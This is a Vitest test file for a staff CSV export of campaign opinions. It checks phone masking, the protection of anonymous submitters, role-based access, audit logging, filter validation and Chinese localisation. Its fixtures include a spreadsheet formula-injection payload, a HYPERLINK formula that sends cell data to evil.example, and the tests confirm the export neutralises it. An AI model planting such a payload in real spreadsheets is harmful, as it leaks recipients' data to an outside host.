import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { createCampaign, createUnit, signInAs } from '../helpers/factories.js';
import { download, seed } from './support.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)'];

describe('a coordinator downloads the campaign’s opinions as CSV', () => {
  let t: TestApp;
  let campaignId: number;
  let watched: number;
  let other: number;
  let ids: Record<string, number>;
  let codes: string[];
  beforeEach(async () => {
    t = await buildTestApp();
    campaignId = await createCampaign(t.app.db, { name: 'Autumn campaign' });
    watched = await createUnit(t.app.db, { name: 'Housing bureau' });
    other = await createUnit(t.app.db, { name: '交通局' });
    const named = await seed(t, {
      campaignId,
      body: '窗口工作人员态度生硬，"多次"推诿,\n第二行。',
      unitId: watched,
      anonymous: false,
      submitterName: 'Chen Jing',
      submitterPhone: '139 0000 1111',
      submitterEmail: 'chen@example.org',
      details: { caller_number: '13812345678', duration_minutes: 12 },
      receivedAt: new Date('2026-11-18T01:30:00Z'),
    });
    const anonymous = await seed(t, {
      campaignId,
      body: 'Anonymous caller.',
      unitId: other,
      details: { officer_on_duty: 'Li Na' },
    });
    // Stored before the rule that anonymous callers leave no number: still never exported.
    await t.app.db
      .updateTable('opinions')
      .set({ details: JSON.stringify({ caller_number: '13700001111', officer_on_duty: 'Li Na' }) })
      .where('id', '=', anonymous.id)
      .execute();
    const petition = await seed(t, {
      campaignId,
      channel: 'petition',
      body: 'A letter.',
      details: { petition_kind: 'visit', visitors: 3 },
    });
    const formulas = [];
    for (const body of FORMULAS)
      formulas.push(await seed(t, { campaignId, channel: 'suggestion_box', body, details: { slip_number: '=1+1' } }));
    await seed(t, {
      campaignId: await createCampaign(t.app.db, { name: 'Other campaign' }),
      body: 'Another campaign.',
    });
    ids = { named: named.id, anonymous: anonymous.id, petition: petition.id };
    codes = [named, anonymous, petition, ...formulas].map((o) => o.trackingCode);
  });
  afterEach(async () => t.close());

  it('without personal details: BOM, spreadsheet-safe cells, masked numbers, no codes, audited', async () => {
    const { user, agent } = await signInAs(t, 'coordinator');
    const d = await download(agent, `/staff/opinions/export.csv?campaign=${campaignId}`);
    expect(d.res.status).toBe(200);
    expect(d.res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(d.res.headers['content-disposition']).toBe(
      `attachment; filename="opinions-campaign-${campaignId}-2026-11-20.csv"`,
    );
    expect(d.res.headers['cache-control']).toBe('no-store');
    expect(d.text.split('\r\n').length).toBeGreaterThan(7); // CRLF line ends

    expect(d.header.slice(0, 8)).toEqual([
      'Opinion number',
      'Received',
      'Channel',
      'External reference',
      'Unit',
      'Category',
      'State',
      'Opinion text',
    ]);
    expect(d.header).toContain("Caller's number");
    expect(d.header).toContain('Letter or visit');
    expect(d.header[d.header.length - 1]).toBe('Anonymous');
    expect(d.header).not.toContain('Name');
    expect(d.header).not.toContain('Email');
    expect(d.records.map((r) => Number(r['Opinion number']))).toEqual([
      ids.named,
      ids.anonymous,
      ids.petition,
      ids.petition! + 1,
      ids.petition! + 2,
      ids.petition! + 3,
      ids.petition! + 4,
    ]);

    const named = d.records[0]!;
    expect(named).toMatchObject({
      Received: '2026-11-18 09:30',
      Channel: 'Published hotline',
      Unit: 'Housing bureau',
      State: 'Received',
      'Opinion text': '窗口工作人员态度生硬，"多次"推诿,\n第二行。',
      "Caller's number": '138****5678',
      'Call length (minutes)': '12',
      Anonymous: 'no',
    });
    expect(d.records[1]).toMatchObject({
      "Caller's number": '',
      'Officer on duty': 'Li Na',
      Anonymous: 'yes',
      Unit: '交通局',
    });
    expect(d.records[2]).toMatchObject({
      Channel: 'Letters and visits reception',
      'Letter or visit': 'Visit in person',
      'Number of visitors': '3',
    });
    // Formulas come out as text.
    expect(d.records.slice(3).map((r) => r['Opinion text'])).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(d.records[3]!['Slip number']).toBe("'=1+1");
    for (const line of d.text.split('\r\n').slice(1)) expect(line, line).not.toMatch(/(^|,)"?[=+@-]/);

    for (const secret of [...codes, 'Chen Jing', '139 0000 1111', 'chen@example.org', '13812345678', '13700001111'])
      expect(d.text, secret).not.toContain(secret);
    expect(d.text).not.toContain('Another campaign.');

    const audit = await t.app.db
      .selectFrom('audit_log')
      .selectAll()
      .where('action', '=', 'opinions.exported')
      .execute();
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({
      actor_id: user.id,
      actor: user.email,
      entity_type: 'campaign',
      entity_id: String(campaignId),
    });
    expect(JSON.parse(audit[0]!.data!)).toEqual({ personal: false, rows: 7, filters: {} });
  });

  it('with personal details for a coordinator: names and contacts, never an anonymous person’s', async () => {
    const { user, agent } = await signInAs(t, 'coordinator');
    const d = await download(agent, `/staff/opinions/export.csv?campaign=${campaignId}&personal=1`);
    expect(d.res.status).toBe(200);
    expect(d.res.headers['content-disposition']).toBe(
      `attachment; filename="opinions-campaign-${campaignId}-2026-11-20-personal.csv"`,
    );
    expect(d.header.slice(-3)).toEqual(['Name', 'Phone', 'Email']);
    expect(d.records[0]).toMatchObject({
      Name: 'Chen Jing',
      Phone: '139 0000 1111',
      Email: 'chen@example.org',
      "Caller's number": '13812345678',
    });
    expect(d.records[1]).toMatchObject({ Name: '', Phone: '', Email: '', "Caller's number": '', Anonymous: 'yes' });
    expect(d.text).not.toContain('13700001111');
    for (const code of codes) expect(d.text).not.toContain(code);

    const audit = await t.app.db
      .selectFrom('audit_log')
      .selectAll()
      .where('action', '=', 'opinions.exported')
      .execute();
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ actor_id: user.id });
    expect(JSON.parse(audit[0]!.data!)).toMatchObject({ personal: true, rows: 7 });
  });

  it('lets an administrator include personal details too', async () => {
    const { agent } = await signInAs(t, 'administrator');
    const d = await download(agent, `/staff/opinions/export.csv?campaign=${campaignId}&personal=1`);
    expect(d.res.status).toBe(200);
    expect(d.records[0]!.Name).toBe('Chen Jing');
  });

  it('gives a supervisor only what they may read, and refuses them personal details', async () => {
    const { user, agent } = await signInAs(t, 'supervisor', { watches: [watched] });
    const own = await seed(t, {
      campaignId,
      channel: 'visit',
      body: 'Recorded by the supervisor.',
      unitId: other,
      details: { place: 'Market' },
      recordedBy: { id: user.id, label: user.email },
    });
    const d = await download(agent, `/staff/opinions/export.csv?campaign=${campaignId}`);
    expect(d.res.status).toBe(200);
    expect(d.records.map((r) => Number(r['Opinion number']))).toEqual([ids.named, own.id]);
    expect(d.text).not.toContain('Chen Jing');

    const refused = await agent.get(`/staff/opinions/export.csv?campaign=${campaignId}&personal=1`);
    expect(refused.status).toBe(403);
    expect(refused.text).not.toContain('Chen Jing');
    const audit = await t.app.db
      .selectFrom('audit_log')
      .select('data')
      .where('action', '=', 'opinions.exported')
      .execute();
    expect(audit.map((a) => JSON.parse(a.data!).personal)).toEqual([false]);
  });

  it('narrows by the inbox’s filters, and refuses ones it cannot read', async () => {
    const { agent } = await signInAs(t, 'coordinator');
    const hotline = await download(agent, `/staff/opinions/export.csv?campaign=${campaignId}&channel=hotline`);
    expect(hotline.records.map((r) => Number(r['Opinion number']))).toEqual([ids.named, ids.anonymous]);
    expect(hotline.header).toContain("Caller's number");
    expect(hotline.header).not.toContain('Letter or visit'); // only the channel's own particulars
    const day = await download(
      agent,
      `/staff/opinions/export.csv?campaign=${campaignId}&from=2026-11-18&to=2026-11-18`,
    );
    expect(day.records.map((r) => Number(r['Opinion number']))).toEqual([ids.named]);
    const unit = await download(agent, `/staff/opinions/export.csv?campaign=${campaignId}&unit=${other}`);
    expect(unit.records.map((r) => Number(r['Opinion number']))).toEqual([ids.anonymous]);
    const audit = await t.app.db
      .selectFrom('audit_log')
      .select('data')
      .where('action', '=', 'opinions.exported')
      .orderBy('id')
      .execute();
    expect(JSON.parse(audit[1]!.data!).filters).toEqual({ from: '2026-11-18', to: '2026-11-18' });

    for (const q of [
      'channel=fax',
      'from=2026-02-30',
      'unit=abc',
      'personal=yes',
      `campaign=${campaignId}&campaign=${campaignId}`,
    ]) {
      const res = await agent.get(`/staff/opinions/export.csv?campaign=${campaignId}&${q}`);
      expect(res.status, q).toBe(400);
    }
    expect((await agent.get('/staff/opinions/export.csv?campaign=99999')).status).toBe(404);
    // No campaign named: the current one, as in the inbox.
    const current = await download(agent, '/staff/opinions/export.csv');
    expect(current.res.status).toBe(200);
  });

  it('writes the header and words in the reader’s language', async () => {
    const { agent } = await signInAs(t, 'coordinator', { locale: 'zh-CN' });
    const d = await download(agent, `/staff/opinions/export.csv?campaign=${campaignId}&personal=1`, 'zh-CN');
    expect(d.header.slice(0, 8)).toEqual(['意见序号', '收到时间', '渠道', '编号', '单位', '类别', '状态', '意见内容']);
    expect(d.header.slice(-4)).toEqual(['是否匿名', '姓名', '联系电话', '电子邮箱']);
    expect(d.records[0]).toMatchObject({
      渠道: '公布热线电话',
      状态: '已收到',
      是否匿名: '否',
      来电号码: '13812345678',
    });
    expect(d.records[2]).toMatchObject({ 来信或来访: '来访' });
    expect(d.records[1]!.是否匿名).toBe('是');
  });
});
